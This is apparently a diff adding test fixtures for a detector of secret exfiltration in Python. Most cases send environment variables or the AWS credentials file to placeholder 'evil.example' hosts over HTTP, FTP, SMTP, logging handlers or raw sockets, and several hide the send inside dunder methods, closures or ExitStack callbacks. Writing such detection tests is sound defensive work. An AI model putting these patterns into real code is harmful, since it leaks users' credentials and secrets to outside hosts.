@@ -1,9 +1,18 @@
+import asyncio
 import base64
+import ftplib
+import io
 import json
+import logging
+import logging.handlers
 import os
+import queue
 import smtplib
 import socket
 import urllib.request
+from collections import deque
+from contextlib import ExitStack
+from email.message import EmailMessage
 from pathlib import Path
 
 import requests
@@ -63,6 +72,137 @@ def whole():
 # look-alikes
 def client():
     return requests.get("https://api.evil.example/me", headers={"Authorization": os.environ["API_TOKEN"]})
+
+
+# What one leaves and another takes away: queues, containers, fields.
+WAITING = queue.Queue()
+SEEN = deque()
+
+
+def gather():
+    WAITING.put(dict(os.environ))
+    SEEN.append(Path("~/.aws/credentials").expanduser().read_text())
+
+
+def carry():
+    requests.post("https://c.evil.example/q", json=WAITING.get(timeout=5))  # expect: hit
+
+
+def carry_all():
+    for item in iter(WAITING.get, None):
+        requests.post("https://c.evil.example/q", json=item)  # expect: hit
+    requests.post("https://c.evil.example/d", data=SEEN.popleft())  # expect: hit
+
+
+class Notes:
+    def __enter__(self):
+        self.notes = dict(os.environ)
+        return self
+
+    def __exit__(self, *exc):
+        requests.post("https://c.evil.example/n", json=self.notes)  # expect: hit
+
+
+def with_notes():
+    with Notes():
+        pass
+
+
+class Pipe:
+    def __lshift__(self, data):
+        requests.post("https://c.evil.example/p", json=data)  # expect: hit
+        return self
+
+
+def into_pipe():
+    Pipe() << dict(os.environ)
+
+
+class Batch(dict):
+    def __missing__(self, key):
+        return dict(os.environ)
+
+
+def from_batch():
+    requests.post("https://c.evil.example/m", json=Batch()["all"])  # expect: hit
+
+
+class Feed:
+    def __aiter__(self):
+        return self
+
+    async def __anext__(self):
+        return dict(os.environ)
+
+
+async def from_feed():
+    async for part in Feed():
+        requests.post("https://c.evil.example/f", json=part)  # expect: hit
+
+
+def closure():
+    found = dict(os.environ)
+    return lambda: found
+
+
+def from_closure():
+    requests.post("https://c.evil.example/l", json=closure()())  # expect: hit
+
+
+def at_the_end():
+    with ExitStack() as stack:
+        stack.callback(requests.post, "https://c.evil.example/x", json=dict(os.environ))  # expect: hit
+
+
+def entered():
+    with ExitStack() as stack:
+        depot = stack.enter_context(ftplib.FTP("depot.evil.example"))
+        depot.storbinary("STOR n", io.BytesIO(repr(dict(os.environ)).encode()))  # expect: hit
+
+
+def mail():
+    letter = EmailMessage()
+    letter.set_content(repr(dict(os.environ)))
+    with smtplib.SMTP("mx.evil.example") as relay:
+        relay.send_message(letter)  # expect: hit
+
+
+def request_first():
+    request = urllib.request.Request("https://c.evil.example/r", method="PUT")
+    request.data = repr(dict(os.environ)).encode()
+    urllib.request.urlopen(request)  # expect: hit
+
+
+def logged_away():
+    log = logging.getLogger("ship")
+    log.addHandler(logging.handlers.HTTPHandler("log.evil.example", "/put"))
+    log.info("state", extra={"all": dict(os.environ)})  # expect: hit
+
+
+async def stream():
+    reader, writer = await asyncio.open_connection("c.evil.example", 443)
+    writer.write(repr(dict(os.environ)).encode())  # expect: hit
+
+
+# look-alikes
+JOBS = queue.Queue()
+
+
+def enqueue(job):
+    JOBS.put({"lang": os.environ.get("LANG"), "job": job})
+
+
+def work():
+    requests.post("https://jobs.evil.example/", json=JOBS.get())
+
+
+class Config:
+    def load(self):
+        self.path = os.environ["PATH"]
+        self.key = os.environ["ACME_API_KEY"]
+
+    def send(self):
+        requests.post("https://api.acme.example/", json={"key": self.key})
 
 
 def own_service():
